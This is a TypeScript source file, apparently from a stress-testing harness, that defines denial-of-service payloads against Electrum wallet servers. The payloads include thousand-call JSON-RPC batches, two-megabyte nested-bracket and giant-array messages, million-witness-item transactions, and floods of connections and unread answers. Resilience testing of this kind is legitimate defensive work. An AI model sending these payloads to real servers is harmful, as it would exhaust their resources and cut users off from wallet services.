import { sha256 } from '../chain/scripts.ts';
import { ANY_HASH, type Attack } from './attacks.ts';
import { manyItemsHex, type Targets } from './targets.ts';

const ARRAY_CALLS = 1_000;
/** A little less than what a message may have. */
const MESSAGE_BYTES = 2_000_000;
/** What is taken of commas and brackets, nearly. */
const PARTS_TAKEN = 32_000;
const CONNECTIONS = 24;

/** What is sent over the Electrum protocol; a client has a hundred sessions at most. */
export function listElectrumAttacks({ txid, hub, manyItems }: Targets): Attack[] {
  const script = Buffer.from(sha256(hub)).reverse().toString('hex');
  const attack = (name: string, message: string, pipelined: number): Attack => {
    const bytes = Buffer.from(`${message}\n`);
    const named = `Electrum: ${name}`;
    return { name: named, protocol: 'electrum', bytes, connections: CONNECTIONS, pipelined, reads: true };
  };
  const subscribe = 'blockchain.scripthash.subscribe';
  const verbose = call('blockchain.transaction.get', [manyItems, true]);
  const raw = call('blockchain.transaction.get', [txid]);
  const manyParts = `[[${'0,'.repeat(PARTS_TAKEN)}0],"${'a'.repeat(MESSAGE_BYTES - 3 * PARTS_TAKEN)}"]`;
  return [
    attack('millions of witness items in words', verbose, 1_000),
    attack('arrays of histories', arrayOf('blockchain.scripthash.get_history', script), 100),
    attack('arrays of unspent outputs', arrayOf('blockchain.scripthash.listunspent', script), 100),
    attack('arrays of subscriptions to one script', arrayOf(subscribe, script), 100),
    {
      ...attack('arrays of subscriptions', arrayOf(subscribe, ANY_HASH), 100),
      connections: 95,
      isFresh: true,
    },
    attack('nested messages', '['.repeat(MESSAGE_BYTES), 10),
    attack('messages of small values', `[${'0,'.repeat(MESSAGE_BYTES / 2)}0]`, 10),
    attack('messages of as many values as are taken', manyParts, 10),
    attack('messages of one text', call('server.ping', ['a'.repeat(MESSAGE_BYTES)]), 10),
    attack('a million witness items', call('blockchain.transaction.broadcast', [manyItemsHex]), 10),
    { ...attack('answers that are never read', raw, 100), connections: 95, reads: false },
    { ...attack('new sessions', call('server.version', ['a', '1.4']), 1), connections: 190, ends: true },
  ];
}

function call(method: string, params: unknown[]): string {
  return JSON.stringify({ jsonrpc: '2.0', id: 1, method, params });
}

function arrayOf(method: string, hash: string): string {
  return `[${Array.from({ length: ARRAY_CALLS }, () => call(method, [hash])).join(',')}]`;
}
